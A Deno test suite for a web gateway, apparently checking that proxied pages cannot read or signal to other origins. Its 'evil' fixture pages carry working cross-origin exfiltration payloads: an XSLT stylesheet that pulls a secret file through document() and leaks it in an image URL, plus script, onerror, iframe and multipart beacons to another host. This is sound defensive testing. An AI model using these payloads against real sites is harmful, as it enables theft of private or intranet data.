/** What pages in the gateway get to see of each other in a browser, with or without origins of their own. */

import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { Browser, dumpPage } from "./browser.ts";
import { freePort } from "./programs.ts";
import { Weir } from "./weir.ts";

type Answer = [type: string, text: string] | { location: string };

/** A site of these pages, which writes down what it was asked for. */
class Site implements AsyncDisposable {
  readonly asked: string[] = [];
  readonly #server: Deno.HttpServer<Deno.NetAddr>;

  constructor(pages: Record<string, Answer>) {
    this.#server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
      const { pathname, search } = new URL(request.url);
      if (pathname !== "/favicon.ico") this.asked.push(pathname + search);
      const page = pages[pathname];
      if (page === undefined) return new Response("nothing here", { status: 404 });
      if (!Array.isArray(page)) {
        return new Response(null, { status: 302, headers: { location: page.location } });
      }
      return new Response(page[1], { headers: { "content-type": page[0] } });
    });
  }

  get port(): number {
    return this.#server.addr.port;
  }

  get authority(): string {
    return `127.0.0.1:${this.port}`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server.shutdown();
  }
}

function ownOrigin(site: Site, port: number): string {
  return `http://http-${site.port}---127-0-0-1.localhost:${port}`;
}

const ICON = `<link rel=icon href="data:,">`;
const SECRET = "INTRANET-4711";
const PICTURE = `<svg xmlns="http://www.w3.org/2000/svg" width="70" height="50"/>`;

/** A document with a style sheet of its own, which reads `secret` and asks a picture of `/got` for what it says. */
function reading(secret: string, root = "d", namespace = ""): string {
  const sheet = `<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">` +
    `<xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body><img><xsl:attribute name="src">` +
    `<xsl:value-of select="concat('got?', document('${secret}'))"/></xsl:attribute></img></body></html>` +
    `</xsl:template><xsl:template match="xsl:stylesheet"/></xsl:stylesheet>`;
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>` +
    `<!DOCTYPE ${root} [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><${root}${namespace}>${sheet}</${root}>`;
}

const show = async (url: string) =>
  (await dumpPage(url, ["--no-proxy-server", "--virtual-time-budget=5000"])).stdout;

for (const origins of ["site", "path"] as const) {
  Deno.test(`a page in the gateway reads no other site, with a script or without: ${origins}`, async () => {
    await using secret = new Site({
      "/secret.xml": ["application/xml", `<r>${SECRET}</r>`],
      "/secret.svg": ["image/svg+xml", `${PICTURE.slice(0, -2)}><text id="a">${SECRET}</text></svg>`],
    });
    await using elsewhere = new Site({});
    const port = freePort();
    const within = origins === "path" ? `/${secret.authority}` : ownOrigin(secret, port);
    const xml = `${within}/secret.xml`;
    const svg = ` xmlns="http://www.w3.org/2000/svg"`;
    const script = `new Image().src = "got?script"; new Image().src = "http://${elsewhere.authority}/script"`;
    await using evil = new Site({
      "/inline.xml": ["application/xml", reading(xml)],
      "/inline.svg": ["image/svg+xml", reading(xml, "svg", svg)],
      "/inline.xhtml": ["application/xhtml+xml", reading(xml)],
      "/typed": ["text/html, text/xml", reading(xml)],
      "/page": [
        "text/html",
        `${ICON}<p>shown</p><script>${script}</script><img src="http://${elsewhere.authority}/x">` +
        `<img src=x onerror='${script}'><iframe srcdoc='<script>${script}</script>'></iframe>` +
        `<svg><use href="${within}/secret.svg#a"/></svg><object data="${xml}"></object>`,
      ],
      "/parts": [
        "multipart/x-mixed-replace; boundary=B",
        `--B\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>\r\n--B--\r\n`,
      ],
    });
    await using weir = await Weir.start([
      ...["--gateway", `127.0.0.1:${port}`, "--gateway-origins", origins],
    ]);
    for (const path of ["inline.xml", "inline.svg", "inline.xhtml", "typed", "page", "parts"]) {
      const dom = await show(`http://127.0.0.1:${port}/${evil.authority}/${path}`);
      assert(!dom.includes(`<r>${SECRET}`), dom);
      if (path === "page") assertStringIncludes(dom, "shown");
      assert(evil.asked.includes(`/${path}`));
    }
    const got = evil.asked.filter((path) => path.startsWith("/got"));
    // a style sheet may run at an origin of its own, where it gets nothing
    assertEquals(got.filter((path) => path !== "/got"), []);
    assertEquals(secret.asked, []);
    assertEquals(elsewhere.asked, []);
    weir.assertHealthy();
  });
}

Deno.test("at its own origin a site's links work as they are, under an allow list and without Referer", async () => {
  await using site = new Site({
    "/": [
      "text/html",
      `<!doctype html><meta name=referrer content=no-referrer>${ICON}<link rel=stylesheet href="/style.css">` +
      `<img src="/img/x.svg"><svg><use href="/img/x.svg#a"/></svg><iframe src="/inner"></iframe>`,
    ],
    "/style.css": ["text/css", "body { background: url(/ground.svg) }"],
    "/img/x.svg": ["image/svg+xml", PICTURE],
    "/ground.svg": ["image/svg+xml", PICTURE],
    "/inner": ["text/html", `<meta http-equiv=refresh content="0;url=/moved"><p>inner`],
    "/moved": { location: "/there" },
    "/there": ["text/html", "<p>there"],
  });
  const port = freePort();
  await using weir = await Weir.start(["--gateway", `127.0.0.1:${port}`, "--allow", "127.0.0.1"]);
  await show(`http://localhost:${port}/${site.authority}/`);
  assertEquals(
    [...new Set(site.asked)].sort(),
    ["/", "/ground.svg", "/img/x.svg", "/inner", "/moved", "/style.css", "/there"],
  );
  assertEquals(weir.log.filter(({ status }) => status === 403), []);
  weir.assertHealthy();
});

Deno.test("redirects lead from one site's origin to another's, and no page of either shows the other", async () => {
  await using second = new Site({ "/there": ["text/html", `${ICON}<p>arrived</p>`] });
  const port = freePort();
  const own = (site: Site) => ownOrigin(site, port);
  await using first = new Site({
    "/": ["text/html", `${ICON}<meta http-equiv=refresh content="0;url=/out">`],
    "/out": { location: `http://${second.authority}/there` },
    "/frames": [
      "text/html",
      `${ICON}<iframe src="${own(second)}/framed"></iframe><img src="${own(second)}/img">`,
    ],
  });
  await using weir = await Weir.start(["--gateway", `127.0.0.1:${port}`]);
  {
    // not shown: a page that goes on to another site may leave the browser nothing to show when it is asked
    await using _browser = new Browser(["--no-proxy-server"], `http://127.0.0.1:${port}/${first.authority}/`);
    const there = `http://${second.authority}/there`;
    await weir.logged("where it leads", ({ status, target }) => status === 200 && target === there);
  }
  assertEquals(second.asked, ["/there"]);
  await show(`${own(first)}/frames`);
  assert(first.asked.includes("/frames"));
  assertEquals(second.asked, ["/there"]);
  // and from outside
  await using outside = new Site({
    "/": [
      "text/html",
      `${ICON}<meta http-equiv=refresh content="0;url=${own(second)}/linked"><img src="${own(second)}/img">`,
    ],
  });
  await show(`http://${outside.authority}/`);
  await weir.logged("what is refused", ({ status, target }) => status === 403 && target === "/linked");
  assertEquals(second.asked, ["/there"]);
  weir.assertHealthy();
});
